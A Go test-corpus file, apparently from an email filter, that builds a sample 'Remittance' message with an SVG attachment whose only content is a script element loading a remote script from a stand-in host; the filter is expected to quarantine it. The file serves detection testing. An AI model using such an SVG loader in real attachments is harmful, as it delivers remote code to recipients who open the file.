package corpus

import "github.com/kensa-milter/kensa/policy"

// svgLoaderSamples: an SVG attachment with nothing of its own that draws
// itself from a remote script named by xlink:href, which Chromium runs
// (scanners/heuristic's TestSVGScriptHrefInChromium).
func svgLoaderSamples() []Sample {
	return []Sample{build(Sample{Name: "svg-script-href-loader", About: "an SVG image whose only content is a script element loading a remote script by xlink:href",
		Action: policy.Quarantine, Want: []Want{w("heuristic", "html-redirect-attachment", "2"), w("heuristic", "svg-script", "2")}},
		mail{subject: "Remittance", root: multipart("mixed", text("Remittance advice attached.\n"), attach("image/svg+xml", "Remittance.svg",
			[]byte(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="400">`+
				`<script xlink:href="https://cdn-assets.example.net/r/loader.js"/></svg>`+"\r\n")))})}
}
